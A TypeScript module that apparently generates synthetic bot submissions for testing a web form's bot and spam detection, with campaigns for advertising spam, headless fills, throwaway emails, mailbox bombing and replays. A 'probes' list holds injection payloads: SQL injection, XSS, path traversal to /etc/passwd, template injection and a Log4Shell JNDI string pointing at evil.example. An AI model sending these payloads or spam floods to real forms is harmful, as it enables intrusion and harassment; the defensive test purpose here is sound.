/** Programs that fill in forms, as mail administrators and form owners see them: advertisers, fillers, probes, replays, bombs. */
import { courseOptions } from '../../../shared/courses.ts';
import { educationOptions } from '../../../shared/fields.ts';
import { Random } from '../prefill/random.ts';
import { addressOf, digits, type Post, phoneOf } from './post.ts';

const lower = 'abcdefghijklmnopqrstuvwxyz';
const mixed = `${lower}${lower.toUpperCase()}`;
const letters = (random: Random, from: string, count: number) =>
  Array.from({ length: count }, () => from[random.between(0, from.length - 1)]).join('');

/** Names of the usual libraries for made-up data. */
const first =
  'James Mary Robert Patricia John Jennifer Michael Linda David Elizabeth William Barbara Richard Susan Emma Olivia Liam Noah Rahul Priya Amit Neha'.split(
    ' ',
  );
const last =
  'Smith Johnson Williams Brown Jones Garcia Miller Davis Wilson Moore Taylor Anderson Thomas Jackson White Sharma Patel Kumar'.split(
    ' ',
  );
const adverts = [
  'Best online casino bonus 500% https://luckyspin.example/win',
  'Increase your website traffic with our SEO services, click here http://rank.example',
  'Earn money from home $500 per day, join our Telegram channel t.me/earnfast',
  'Cheap viagra and cialis without prescription',
  '<a href="https://pills.example">buy now</a>',
  '[url=https://betting.example]sports betting[/url]',
  'Get a personal loan in 5 minutes, no documents. Visit quickloan.example.com',
  'Инвестируй в криптовалюту и зарабатывай от 1000$ в день',
  '加微信领取免费福利，在线赌场',
];
const probes = [
  "' OR '1'='1' --",
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '1; DROP TABLE users; --',
  '{{7*7}}',
  '"><img src=x onerror=alert(1)>',
  'UNION SELECT NULL,NULL,version()--',
];
const throwaway = [
  'mailinator.com',
  'guerrillamail.com',
  'yopmail.com',
  '10minutemail.com',
  'trashmail.com',
  'sharklasers.com',
];

function base(random: Random): Record<string, string> {
  const name = `${random.of(first)} ${random.of(last)}`;
  const phone = phoneOf(random);
  return {
    name,
    email: `${name.toLowerCase().replace(' ', random.of(['', '.', '_']))}${digits(random, 3)}@${random.of(['gmail.com', 'yahoo.com', 'mail.ru', 'outlook.com'])}`,
    phone,
    whatsapp: phone,
    address: `${random.between(1, 999)} ${random.of(last)} Street`,
    skills: `${random.of(['Java', 'Excel', 'Marketing', 'Sales'])}, ${random.of(['SQL', 'Design', 'Word'])}`,
    areaOfInterest: random.of(['Business', 'Marketing', 'Technology', 'Finance']),
    course: random.of(courseOptions.filter((course) => course !== 'Others')),
    collegeName: `${random.of(last)} College`,
    yearOfPassing: String(random.between(1990, 2030)),
    highestEducation: random.of(educationOptions),
    workExperience: 'Fresher',
  };
}

const free = ['address', 'skills', 'areaOfInterest', 'collegeName', 'referenceName', 'certifications'];

/** Campaigns: each is started with its own properties, and gives one post after the other. The number is its share. */
type Campaign = (random: Random, id: string) => () => Omit<Post, 'kind' | 'address' | 'times'>;

const campaigns: Record<string, readonly [share: number, start: Campaign]> = {
  // Fills every input that it finds in the page.
  'fills everything': [
    0.14,
    (random, id) => () => ({
      way: 'form',
      fields: {
        ...base(random),
        remarks: random.of(['Thank you', 'https://x.example', letters(random, lower, 8)]),
        noticeVersion: 'en',
      },
      file: `${id} ${random.between(1, 3)}`,
    }),
  ],
  advertises: [
    0.14,
    (random, id) => () => {
      const spots = random.some(free, random.between(1, 3));
      const text = random.of(adverts);
      return {
        way: random.of(['form', 'api', 'script']),
        fields: { ...base(random), ...Object.fromEntries(spots.map((spot) => [spot, text])) },
        file: `${id} ${random.between(1, 9)}`,
      };
    },
  ],
  'random letters': [
    0.1,
    (random, id) => () => {
      const text = () => letters(random, random.chance(0.5) ? mixed : lower, random.between(8, 18));
      return {
        way: random.of(['form', 'script']),
        fields: { ...base(random), name: text(), ...Object.fromEntries(free.map((spot) => [spot, text()])) },
        file: `${id} ${random.next()}`,
      };
    },
  ],
  'one text for all': [
    0.12,
    (random, id) => {
      const { name: _n, email: _e, phone: _p, whatsapp: _w, ...text } = base(random);
      return () => ({
        way: 'form',
        fields: { ...base(random), ...text },
        file: `${id} ${random.chance(0.5) ? 1 : random.next()}`,
      });
    },
  ],
  'one file for all': [
    0.12,
    (random, id) => () => ({
      way: random.of(['form', 'script']),
      fields: { ...base(random), filledIn: String(random.between(5_000, 60_000)) },
      file: id,
    }),
  ],
  'headless, in no time': [
    0.1,
    (random, id) => () => ({
      way: 'script',
      fields: { ...base(random), filledIn: String(random.between(40, 950)) },
      file: `${id} ${random.next()}`,
    }),
  ],
  'headless, in a hurry': [
    0.04,
    (random, id) => {
      const { skills: text = '', address = '' } = base(random);
      return () => ({
        way: 'script',
        fields: {
          ...base(random),
          skills: text,
          address,
          areaOfInterest: 'Business',
          collegeName: 'ABC',
          filledIn: String(random.between(1_000, 2_900)),
        },
        file: `${id} ${random.next()}`,
      });
    },
  ],
  'throwaway addresses': [
    0.08,
    (random, id) => () => ({
      way: random.of(['form', 'script']),
      fields: { ...base(random), email: `${letters(random, lower, 9)}@${random.of(throwaway)}`, filledIn: '25000' },
      file: `${id} ${random.next()}`,
    }),
  ],
  probes: [
    0.06,
    (random, id) => () => ({
      way: random.of(['form', 'api']),
      fields: { ...base(random), [random.of(['name', ...free])]: random.of(probes) },
      file: `${id} ${random.next()}`,
    }),
  ],
  // A stranger's mailbox is to be flooded with receipts.
  bombs: [
    0.03,
    (random, id) => {
      const { email = '' } = base(random);
      return () => ({ way: 'form', fields: { ...base(random), email }, file: `${id} ${random.next()}` });
    },
  ],
  replays: [
    0.04,
    (random, id) => {
      const fields = { ...base(random), filledIn: String(random.between(9_000, 99_000)) };
      return () => ({
        way: 'script',
        fields: { ...fields, name: base(random).name ?? '', email: base(random).email ?? '' },
        file: id,
      });
    },
  ],
  // Nothing but their number would tell these from people.
  careful: [0.03, (random, id) => () => ({ way: 'form', fields: base(random), file: `${id} ${random.next()}` })],
};

/** So many posts of programs in turns, the same for the same seed. */
export function makeBots(count: number, seed: number): Post[] {
  const random = new Random(seed);
  const posts: Post[] = [];
  for (const [kind, [share, start]] of Object.entries(campaigns)) {
    let next = start(random, `bot ${seed} ${kind}`);
    let from = addressOf(random);
    const isBotnet = random.chance(0.5);
    for (let index = 0; index < share * count; index++) {
      // The next customer, from elsewhere.
      if (index % 150 === 149) {
        next = start(random, `bot ${seed} ${kind} ${index}`);
        from = addressOf(random);
      }
      posts.push({ kind, address: isBotnet ? addressOf(random) : from, times: 1, ...next() });
    }
  }
  return posts
    .map((post) => ({ post, at: random.next() }))
    .sort((one, other) => one.at - other.at)
    .map(({ post }) => post);
}
